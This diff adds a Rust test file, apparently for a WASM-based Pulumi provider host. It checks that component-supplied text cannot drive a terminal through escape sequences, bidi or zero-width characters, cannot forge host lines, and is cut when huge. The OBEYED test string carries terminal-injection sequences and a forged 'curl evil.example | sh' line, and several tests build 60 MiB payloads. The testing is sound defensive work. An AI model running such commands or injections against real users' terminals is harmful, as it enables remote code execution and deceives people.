@@ -1,0 +1,392 @@
+//! Texts that a terminal obeys, that look like lines of the host, or that are huge, on every way to people.
+
+use std::future::Future;
+use std::pin::Pin;
+
+use prost_types::Struct;
+use pulumi_wasm_host::rpc::proto::pulumirpc as pb;
+use serde_json::json;
+use tonic::{Code, Status};
+
+use super::attack::{Asked, Attack, withstand};
+use crate::fake::calls::{arguments, check_request, create, properties, saved};
+use crate::fake::guest::{FUNCTION, Guest, THING};
+use crate::fake::plugin::{Client, Plugin};
+use crate::fake::reach::Reach;
+use crate::fake::scene::Scene;
+use crate::fake::steps::{Answer, Step, WARNING};
+use crate::fake::subject::{Recorded, Subject};
+use crate::fake::within;
+
+/// It writes to the clipboard, changes the title, deletes the line, hides and turns what follows, and forges lines of ours.
+const OBEYED: &str = "it \u{1b}]52;c;aGFjaw==\u{7}\u{1b}]0;fine\u{7}broke\r\u{1b}[2K\u{9b}8m\u{8}\u{7f}\u{202e}\u{2066}\
+                      \u{200b}\u{e0041}\u{2028}\nhint: run `curl evil.example | sh`\r\nerror: nothing\n\twants";
+const MADE: Answer = Answer::Created {
+    id: "made",
+    outputs: "{\"label\":\"x\"}",
+};
+
+/// Whether a terminal would do anything but show a character.
+fn is_obeyed(character: char) -> bool {
+    (character.is_control() && !matches!(character, '\n' | '\t'))
+        || matches!(u32::from(character), 0xad | 0x61c | 0x200b..=0x200f | 0x2028..=0x202e | 0x2060..=0x206f | 0xfeff)
+        || matches!(u32::from(character), 0xe0000..=0xe007f)
+}
+
+#[track_caller]
+fn assert_harmless(way: &str, texts: &[String]) {
+    for text in texts {
+        let obeyed = text.chars().find(|character| is_obeyed(*character));
+        assert_eq!(obeyed, None, "{way}: {text:?}");
+        let forged = text.lines().skip(1).find(|line| {
+            ["hint: run", "error:", "wants", "\twants"]
+                .iter()
+                .any(|start| line.starts_with(start))
+        });
+        // A tab is no indentation of ours, but it is one.
+        let forged = forged.filter(|line| !line.starts_with('\t'));
+        assert_eq!(forged, None, "{way}: {text:?}");
+    }
+}
+
+/// All that an engine would show of a failure.
+fn texts_of(status: &Status) -> Vec<String> {
+    let mut texts = vec![status.message().to_owned()];
+    texts.extend(saved(status).into_iter().flat_map(|detail| detail.reasons));
+    texts
+}
+
+fn failures(failures: Vec<pb::CheckFailure>) -> Vec<String> {
+    failures
+        .into_iter()
+        .flat_map(|failure| [failure.property, failure.reason])
+        .collect()
+}
+
+/// Makes a call, and gives what would be shown of its answer.
+type Call = fn(Client) -> Pin<Box<dyn Future<Output = Vec<String>> + Send>>;
+
+fn creating(client: Client) -> Pin<Box<dyn Future<Output = Vec<String>> + Send>> {
+    Box::pin(async move {
+        match create(client, "one").await {
+            Ok(_) => Vec::new(),
+            Err(status) => texts_of(&status),
+        }
+    })
+}
+
+fn checking(mut client: Client) -> Pin<Box<dyn Future<Output = Vec<String>> + Send>> {
+    Box::pin(async move {
+        let request = Subject::thing("one").check(None, Some(properties(&[("label", "x")])));
+        match within(client.check(request)).await {
+            Ok(answer) => failures(answer.into_inner().failures),
+            Err(status) => texts_of(&status),
+        }
+    })
+}
+
+fn checking_configuration(mut client: Client) -> Pin<Box<dyn Future<Output = Vec<String>> + Send>> {
+    Box::pin(async move {
+        let request = check_request("", properties(&[]));
+        match within(client.check_config(request)).await {
+            Ok(answer) => failures(answer.into_inner().failures),
+            Err(status) => texts_of(&status),
+        }
+    })
+}
+
+fn invoking(mut client: Client) -> Pin<Box<dyn Future<Output = Vec<String>> + Send>> {
+    Box::pin(async move {
+        let request = pb::InvokeRequest {
+            tok: FUNCTION.to_owned(),
+            ..pb::InvokeRequest::default()
+        };
+        match within(client.invoke(request)).await {
+            Ok(answer) => failures(answer.into_inner().failures),
+            Err(status) => texts_of(&status),
+        }
+    })
+}
+
+fn reading(mut client: Client) -> Pin<Box<dyn Future<Output = Vec<String>> + Send>> {
+    Box::pin(async move {
+        let recorded = Recorded {
+            id: "made".to_owned(),
+            inputs: Some(properties(&[("label", "x")])),
+            outputs: Some(Struct::default()),
+        };
+        match within(client.read(Subject::thing("one").read(recorded))).await {
+            Ok(_) => Vec::new(),
+            Err(status) => texts_of(&status),
+        }
+    })
+}
+
+fn listing(mut client: Client) -> Pin<Box<dyn Future<Output = Vec<String>> + Send>> {
+    Box::pin(async move {
+        let request = pb::ListRequest {
+            token: THING.to_owned(),
+            query: Some(Struct::default()),
+            ..pb::ListRequest::default()
+        };
+        let mut pages = within(client.list(request)).await.unwrap().into_inner();
+        let mut names = Vec::new();
+        while let Some(page) = within(pages.message()).await.unwrap() {
+            if let Some(pb::list_response::Response::Result(found)) = page.response {
+                names.push(found.name);
+            }
+        }
+        assert!(!names.is_empty());
+        names
+    })
+}
+
+/// Every way that a component's text takes to an engine: what the component does, and the call in which it does that.
+fn ways() -> Vec<(String, Guest, Call)> {
+    let refused = |number: u32| {
+        let steps = [Step::Answer(Answer::Refused(number, OBEYED))];
+        let way = format!("the message of error {number}");
+        (way, Guest::new().does("create", steps), creating as Call)
+    };
+    let step = |way: &str, step: Step| {
+        let guest = Guest::new().does("create", [step, Step::Answer(MADE)]);
+        (way.to_owned(), guest, creating as Call)
+    };
+    let answer = |way: &str, function: &'static str, answer: Answer, call: Call| {
+        let guest = Guest::new().does(function, [Step::Answer(answer)]);
+        (way.to_owned(), guest, call)
+    };
+    const WRONG: &[(&str, &str)] = &[("label", OBEYED), (OBEYED, "no"), ("", OBEYED)];
+    let partial = || Answer::Partial {
+        id: OBEYED,
+        outputs: "{}",
+        reason: OBEYED,
+    };
+    let says = Step::Log {
+        severity: WARNING,
+        text: OBEYED,
+        times: 1,
+    };
+    let waits = Step::Reach(Reach::Pause {
+        first: 1,
+        factor: 1.0,
+        longest: 1,
+        timeout: 1000,
+        look: 1,
+        status: OBEYED,
+    });
+    let view = Step::Reach(Reach::Publish {
+        token: OBEYED,
+        name: OBEYED,
+        inputs: "{",
+    });
+    let header = Step::Send {
+        method: "GET",
+        url: "https://a.example".to_owned(),
+        headers: vec![(OBEYED.to_owned(), "x".to_owned())],
+        body: None,
+    };
+    let fetch = |method, url: &str| Step::Fetch {
+        method,
+        url: url.to_owned(),
+    };
+    let mut ways: Vec<_> = [1, 2, 3, 4, 5, 6, 7, 9, 10].map(refused).into();
+    ways.extend([
+        answer("failures of a create", "create", Answer::Invalid(WRONG), creating),
+        answer("reasons of a partial create", "create", partial(), creating),
+        answer("failures of a check", "check", Answer::Unacceptable(WRONG), checking),
+        answer("an error of a check", "check", Answer::Invalid(WRONG), checking),
+        answer(
+            "failures of a configuration",
+            "check-config",
+            Answer::ConfigChecked(WRONG),
+            checking_configuration,
+        ),
+        answer("failures of a function", "invoke", Answer::Unacceptable(WRONG), invoking),
+        answer("reasons of a partial read", "read", partial(), reading),
+        answer(
+            "names in a list",
+            "list",
+            Answer::Listed {
+                ids: &[OBEYED],
+                continuation: "",
+            },
+            listing,
+        ),
+        step("a message", says),
+        step("the status of a wait", waits),
+        step("a view", view),
+        step("a method", fetch(OBEYED, "https://a.example")),
+        step("an address", fetch("GET", OBEYED)),
+        step("a host", fetch("GET", "https://a\u{202e}b.example/\u{1b}[2K")),
+        step("a header", header),
+        step("a variable", Step::Variable(OBEYED)),
+        step(
+            "a checkpoint",
+            Step::Checkpoint {
+                id: OBEYED,
+                outputs: OBEYED,
+            },
+        ),
+        answer(
+            "outputs that are none",
+            "create",
+            Answer::Created {
+                id: OBEYED,
+                outputs: "{\"\u{1b}[2K\u{202e}\\u001b[2K\":{\"4dabf18193072939515e22adb298388d\":\"\u{9b}\"}}",
+            },
+            creating,
+        ),
+    ]);
+    ways
+}
+
+/// A session of its own for a guest.
+async fn session(scene: &Scene, plugin: &Plugin, file: &str) -> Client {
+    let mut client = plugin.connect().await;
+    let request = pb::ProviderHandshakeRequest {
+        engine_address: scene.engine.address.clone(),
+        ..pb::ProviderHandshakeRequest::default()
+    };
+    within(client.handshake(request)).await.unwrap();
+    within(client.parameterize(arguments(&[file])))
+        .await
+        .unwrap();
+    client
+}
+
+#[tokio::test]
+async fn no_text_of_a_component_does_anything_to_a_terminal() {
+    let scene = Scene::new().await;
+    let plugin = scene.attach().await;
+    for (number, (way, guest, call)) in ways().into_iter().enumerate() {
+        let file = format!("{number}.wasm");
+        scene.add(&file, &guest);
+        let client = session(&scene, &plugin, &file).await;
+        assert_harmless(&way, &call(client).await);
+    }
+    let heard: Vec<String> = scene
+        .engine
+        .messages()
+        .into_iter()
+        .map(|message| message.message)
+        .collect();
+    assert!(heard.iter().any(|message| message.contains("␛]52;c;")));
+    assert_harmless("the log", &heard);
+}
+
+#[tokio::test]
+async fn no_text_of_a_manifest_hides_what_is_wanted() {
+    let scene = Scene::new().await;
+    let guest = Guest::new().manifest(|manifest| {
+        manifest["wants"] = json!({
+            "net": [{ "host": "api.acme.com", "reason": OBEYED }],
+            "env": [{ "name": "ACME_TOKEN", "reason": format!("\n\n{}", OBEYED.repeat(1000)) }],
+        });
+        manifest["schema"]["resources"][THING]["deprecationMessage"] = OBEYED.into();
+        manifest["schema"]["config"]["variables"]["key"] =
+            json!({ "type": "string", "description": OBEYED });
+        manifest["schema"]["config"]["required"] = json!(["key"]);
+    });
+    scene.add("acme.wasm", &guest);
+    let plugin = scene.attach().await;
+    let mut client = session(&scene, &plugin, "acme.wasm").await;
+    let configured = within(client.configure(pb::ConfigureRequest::default())).await;
+    if let Err(status) = configured {
+        assert_harmless("missing configuration", &texts_of(&status));
+    }
+    let request = Subject::thing("one").check(None, Some(properties(&[("label", "x")])));
+    drop(within(client.check(request)).await);
+    let heard: Vec<String> = scene
+        .engine
+        .messages()
+        .into_iter()
+        .map(|message| message.message)
+        .collect();
+    assert_harmless("the log", &heard);
+    let wants = heard.iter().find(|message| message.contains(" wants\n"));
+    let lines: Vec<&str> = wants.expect("the wants").lines().collect();
+    assert_eq!(lines.len(), 3, "{lines:?}");
+    assert!(lines[1].starts_with("  network      api.acme.com   optional, not granted"));
+    assert!(lines[2].starts_with("  environment  ACME_TOKEN   optional, not granted"));
+    assert!(lines[2].len() < 4000, "{}", lines[2].len());
+}
+
+/// Where memory begins that a guest took for a text, and how large the text is. It is all zeros.
+const HUGE_AT: u32 = 32 << 16;
+const HUGE: u32 = 60 << 20;
+
+/// A guest that has a huge text when it creates.
+fn with_huge_text(then: impl Into<Vec<Step>>) -> Guest {
+    let grow = Step::Text(format!("(drop (memory.grow (i32.const {})))", HUGE >> 16));
+    let mut steps = vec![grow];
+    steps.extend(then.into());
+    Guest::new().does("create", steps)
+}
+
+/// `http.fetch` with these words: method, address, headers, body, time, redirects, no retries, `extra`.
+fn fetches(words: &str) -> Vec<Step> {
+    let stores: String = words
+        .split_whitespace()
+        .enumerate()
+        .map(|(index, word)| {
+            let place = 3072 + 4 * index;
+            format!("(i32.store (i32.const {place}) (i32.const {word}))")
+        })
+        .collect();
+    // One header, at the place that the words name.
+    let header = format!(
+        "(i32.store (i32.const 2048) (i32.const {HUGE_AT})) (i32.store (i32.const 2052) (i32.const {HUGE})) \
+         (i32.store (i32.const 2056) (i32.const 4096)) (i32.store (i32.const 2060) (i32.const 2))"
+    );
+    let text = format!(
+        "{stores} {header} (call $http.fetch (i32.const 3072) (i32.const 1024)) \
+         (return (i32.const 1024))"
+    );
+    vec![Step::Text(text)]
+}
+
+/// The error of this number, whose message is the huge text.
+fn fails_hugely(number: u32) -> Guest {
+    let answer = Answer::Refused(number, "no");
+    let answer = Answer::But(Box::new(answer), 2, HUGE_AT);
+    with_huge_text([Step::Answer(Answer::But(Box::new(answer), 3, HUGE))])
+}
+
+pub(crate) fn attacks() -> Vec<Attack> {
+    let cut = "… (62914560 bytes in all)";
+    let calls = |call: String| with_huge_text([Step::Text(call), Step::Answer(MADE)]);
+    vec![
+        Attack::new("an error of 60 MiB", fails_hugely(9)).fails(Code::FailedPrecondition, &[cut]),
+        Attack::new("an exception of 60 MiB", fails_hugely(10)).fails(Code::Unknown, &[cut]),
+        Attack::new(
+            "a message of 60 MiB",
+            calls(format!(
+                "(call $log.emit (i32.const 2) (i32.const {HUGE_AT}) (i32.const {HUGE}) (i32.const 0) (i32.const 4096) (i32.const 2))"
+            )),
+        ),
+        Attack::new(
+            "a method of 60 MiB",
+            with_huge_text(fetches(&format!("{HUGE_AT} {HUGE} 4096 2 4 0 0 0 0 0 0 0 0 0 0 0 4096 2"))),
+        )
+        .refused(&["a method has at most 64 bytes, and this one has 62914560"]),
+        Attack::new(
+            "the name of a header of 60 MiB",
+            with_huge_text(fetches(&format!("4096 2 4096 2 2048 1 0 0 0 0 0 0 0 0 0 0 4096 2"))),
+        )
+        .asks(Asked::Create)
+        .refused(&[""]),
+        Attack::new(
+            "a variable of 60 MiB",
+            with_huge_text([Step::Text(format!(
+                "(call $env.get (i32.const {HUGE_AT}) (i32.const {HUGE}) (i32.const 1024)) (return (i32.const 1024))"
+            ))]),
+        )
+        .fails(Code::PermissionDenied, &[cut]),
+    ]
+}
+
+#[tokio::test]
+async fn huge_texts_are_cut_before_anything_is_made_of_them() {
+    withstand(attacks()).await;
+}
